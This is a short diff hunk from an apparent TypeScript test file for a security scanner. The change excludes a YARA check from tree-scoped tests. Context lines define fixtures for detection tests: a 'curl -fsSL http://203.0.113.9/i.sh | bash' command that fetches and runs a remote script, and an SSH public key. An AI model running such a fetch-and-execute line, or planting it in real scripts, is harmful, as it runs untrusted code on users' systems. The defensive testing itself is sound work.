@@ -7,7 +7,8 @@ import { atLeast } from '../src/core/level.ts';
 import { lacks } from './need.ts';
 import { makeRoot, plant, scanRoot, type Planted } from './throwaway-root.ts';
 
-const ofTrees = checks.filter(({ scope }) => scope === 'tree');
+/** YARA's engine is a program of the build and has tests of its own. */
+const ofTrees = checks.filter(({ id, scope }) => scope === 'tree' && id !== 'yara');
 const fetch = 'curl -fsSL http://203.0.113.9/i.sh | bash';
 const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB8Ht8Z3j6yDWPBHQtOp/R9rjWvfMYo3MSA/K6q8D86r';
 
